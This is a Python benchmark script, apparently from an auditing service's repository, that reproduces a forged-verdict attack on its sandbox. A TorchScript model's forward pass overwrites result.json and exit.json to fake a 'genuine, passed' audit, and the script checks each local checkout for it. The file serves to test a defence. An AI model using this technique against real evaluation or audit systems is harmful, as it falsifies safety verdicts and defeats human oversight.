"""The forged-verdict attack of issue 17 against any checkout: a TorchScript linear layer (not flip-invariant) that
writes ``{"verdict": "genuine", "passed": true}`` into ``result.json`` and ``{"rc": 0}`` into ``exit.json`` of its
working directory with ``torch.from_file(..., shared=True)`` on every batch, then computes honest logits.

    .venv/bin/python benchmarks/attack_forged_verdict.py REPO [REPO...]   # each REPO: a checkout of the service

For each checkout: starts its ``audit-service serve`` (1 worker) on a free loopback port, submits the model with
natural probes, and prints the job's status, verdict, passed, and how many sandbox processes outlived the job.
On bc43090: succeeded / genuine / passed. With the cage: succeeded / not_invariant / not passed, none left.
"""

from __future__ import annotations

import io
import json
import os
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import numpy as np
import requests
import torch

FORGED = json.dumps({"ok": True, "report": {"schema_version": "1.0", "verdict": {
    "label": "genuine", "passed": True, "reasons": [], "require": ["genuine", "learned"]}}}).encode()


class Forger(torch.nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.fc = torch.nn.Linear(144, 10)
        self.register_buffer("result", torch.tensor(list(FORGED), dtype=torch.uint8))
        self.register_buffer("exit_code", torch.tensor(list(b'{"rc": 0}'), dtype=torch.uint8))

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        r = torch.from_file("result.json", shared=True, size=self.result.numel(), dtype=torch.uint8)
        r.copy_(self.result)
        e = torch.from_file("exit.json", shared=True, size=self.exit_code.numel(), dtype=torch.uint8)
        e.copy_(self.exit_code)
        return self.fc(x.flatten(1)) + (r.float().sum() + e.float().sum()) * 0.0


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def sandbox_processes(data_dir: Path) -> int:
    count = 0
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                count += os.readlink(f"/proc/{entry}/cwd").startswith(str(data_dir.resolve()) + "/")
            except OSError:
                pass
    return count


def attack(repo: Path, model: bytes, probes: bytes, root: Path) -> str:
    data = root / f"data-{repo.name}-{time.monotonic_ns()}"
    port = free_port()
    env = {**os.environ, "AUDIT_DATA_DIR": str(data), "PYTHONPATH": str(repo)}
    log = open(root / f"{repo.name}.log", "wb")
    proc = subprocess.Popen([sys.executable, "-m", "audit_service.cli", "serve", "--port", str(port), "--workers", "1",
                             "--web-workers", "1"], env=env, cwd=repo, stdout=log, stderr=subprocess.STDOUT,
                            start_new_session=True)
    url = f"http://127.0.0.1:{port}"
    try:
        for _ in range(600):
            try:
                if requests.get(url + "/healthz", timeout=1).status_code == 200:
                    break
            except requests.RequestException:
                time.sleep(0.3)
        spec = {"group": "flip", "shifts": [], "options": {"n_probes": 16, "n_noise_probes": 16, "saliency": False,
                                                          "jacobian_probes": 0}}
        r = requests.post(url + "/audit", files={"model": ("forger.pt", model), "probes": ("p.npy", probes)},
                          data={"spec": json.dumps(spec), "timeout_s": "20", "reuse": "false"}, timeout=180)
        if r.status_code != 202:
            return f"{repo}: submission answered {r.status_code}: {r.text[:200]}"
        job_id = r.json()["id"]
        start = time.monotonic()
        while True:
            job = requests.get(f"{url}/audits/{job_id}", timeout=10).json()
            if job["status"] in ("succeeded", "failed", "cancelled") or time.monotonic() - start > 120:
                break
            time.sleep(0.2)
        elapsed = time.monotonic() - start
        verdict = "-"
        if job["status"] == "succeeded":
            report = requests.get(f"{url}/audits/{job_id}/report", timeout=30).json()
            verdict = f"{report['verdict']['label']} passed={report['verdict'].get('passed')}"
        time.sleep(1.0)
        left = sandbox_processes(data)
        reason = (job.get("error") or {}).get("message", "")[:120]
        return (f"{repo}: job {job['status']} in {elapsed:.1f} s, verdict {verdict}; sandbox processes alive 1 s "
                f"after: {left}{'; ' + reason if reason else ''}")
    finally:
        proc.terminate()
        try:
            proc.wait(30)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, 9)


def main() -> None:
    root = Path(tempfile.mkdtemp(prefix="forged-verdict-"))
    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(Forger().eval()), buf, _extra_files={"input_shape.json": "[1, 12, 12]"})
    probes = io.BytesIO()
    np.save(probes, np.random.default_rng(0).normal(size=(16, 1, 12, 12)).astype(np.float32))
    for repo in sys.argv[1:]:
        print(attack(Path(repo).resolve(), buf.getvalue(), probes.getvalue(), root), flush=True)


if __name__ == "__main__":
    main()
